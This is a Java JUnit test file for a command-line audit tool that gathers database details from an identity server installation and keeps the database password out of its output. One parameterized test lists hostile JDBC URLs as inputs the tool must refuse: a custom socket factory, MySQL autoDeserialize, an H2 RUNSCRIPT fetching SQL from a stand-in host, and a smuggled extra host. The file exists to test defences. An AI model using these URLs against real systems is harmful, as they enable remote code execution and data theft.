package io.isaudit.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseOptionsTest {

  private static final String PASSWORD = "Kept-Out-4471";

  @TempDir Path folder;
  private Path home;
  private Path password;
  private final StringWriter printed = new StringWriter();

  @BeforeEach
  void lay_out() throws Exception {
    home = Files.createDirectories(folder.resolve("home"));
    Files.createDirectories(home.resolve("repository/conf"));
    password = Files.writeString(folder.resolve("password"), PASSWORD + "\n");
    settings("jdbc:postgresql://localhost:1/idn");
  }

  @Test
  void a_database_that_is_down_is_missing_with_its_reason_and_without_the_password()
      throws Exception {
    int port;
    try (ServerSocket free = new ServerSocket(0)) {
      port = free.getLocalPort();
    }
    int code = collect("--jdbc", "identity+consent=jdbc:postgresql://localhost:" + port + "/idn");

    assertThat(code).isZero();
    assertThat(snapshot())
        .contains("identity+consent", "no connection to localhost:" + port)
        .contains("\"database\"")
        .doesNotContain(PASSWORD);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://localhost:1/idn?socketFactory=org.intruder.Factory",
        "jdbc:mysql://localhost:1/idn?autoDeserialize=true",
        "jdbc:h2:./x;INIT=RUNSCRIPT FROM 'http://intruder.example/a.sql'",
        "jdbc:postgresql://localhost:1,intruder.example/idn"
      })
  void a_url_of_a_home_that_is_more_than_an_address_makes_no_connection(String url)
      throws Exception {
    settings(url);
    int code = run("collect", home.toString(), "-o", folder.toString(), "--database-from-home");

    assertThat(code).isZero();
    assertThat(snapshot())
        .containsAnyOf("not connected: the URL of database.identity_db", "H2 inside a home")
        .doesNotContain("intruder.example/a.sql", PASSWORD);
  }

  @Test
  void a_log_in_inside_the_url_is_refused() {
    int code = collect("--jdbc", "identity=jdbc:postgresql://localhost/idn?password=" + PASSWORD);

    assertThat(code).isEqualTo(2);
    assertThat(printed.toString())
        .contains("carries a parameter that is not known: password")
        .doesNotContain(PASSWORD);
  }

  @Test
  void a_database_is_looked_into_without_a_home_beside_it() throws Exception {
    int code =
        run(
            "collect",
            "-o",
            folder.toString(),
            "--jdbc",
            "identity=jdbc:postgresql://localhost:1/idn",
            "--jdbc-user",
            "auditor",
            "--jdbc-password-file",
            password.toString());

    assertThat(code).as(printed.toString()).isZero();
    assertThat(snapshot()).contains("no connection to localhost:1").doesNotContain("\"home\"");
  }

  @Test
  void the_databases_of_a_home_need_the_home() {
    int code = run("collect", "-o", folder.toString(), "--database-from-home");

    assertThat(code).isEqualTo(2);
    assertThat(printed.toString()).contains("--database-from-home needs the home");
  }

  @Test
  void a_driver_of_an_audited_home_is_not_loaded() throws Exception {
    Path jar = Files.writeString(home.resolve("driver.jar"), "anything");
    int code =
        collect("--jdbc", "identity=jdbc:oracle:thin:@//localhost:1/x", "--driver-path", "" + jar);

    assertThat(code).isEqualTo(2);
    assertThat(printed.toString()).contains("lies in an audited home is not loaded");
  }

  @Test
  void without_a_terminal_the_options_for_a_password_are_named() {
    int code =
        run("collect", home.toString(), "--jdbc", "identity=jdbc:h2:./x", "--jdbc-user", "auditor");

    assertThat(code).isEqualTo(2);
    assertThat(printed.toString()).contains("--jdbc-password-env or --jdbc-password-file");
  }

  @Test
  void a_role_that_does_not_exist_is_explained() {
    assertThat(collect("--jdbc", "registry=jdbc:h2:./x")).isEqualTo(2);
    assertThat(printed.toString()).contains("ROLE is identity, shared, user or consent");
  }

  private int collect(String... options) {
    String[] all = new String[options.length + 8];
    String[] first = {
      "collect",
      home.toString(),
      "-o",
      folder.toString(),
      "--jdbc-user",
      "auditor",
      "--jdbc-password-file",
      password.toString()
    };
    System.arraycopy(first, 0, all, 0, first.length);
    System.arraycopy(options, 0, all, first.length, options.length);
    return run(all);
  }

  private int run(String... arguments) {
    PrintWriter writer = new PrintWriter(printed, true);
    return new Program(writer, writer, false).run(arguments);
  }

  private String snapshot() throws Exception {
    return Files.readString(folder.resolve("snapshot.json"));
  }

  private void settings(String url) throws Exception {
    Files.writeString(
        home.resolve("repository/conf/deployment.toml"),
        "[database.identity_db]\ntype = \"postgre\"\nurl = \""
            + url
            + "\"\nusername = \"idn\"\npassword = \""
            + PASSWORD
            + "\"\n");
  }
}
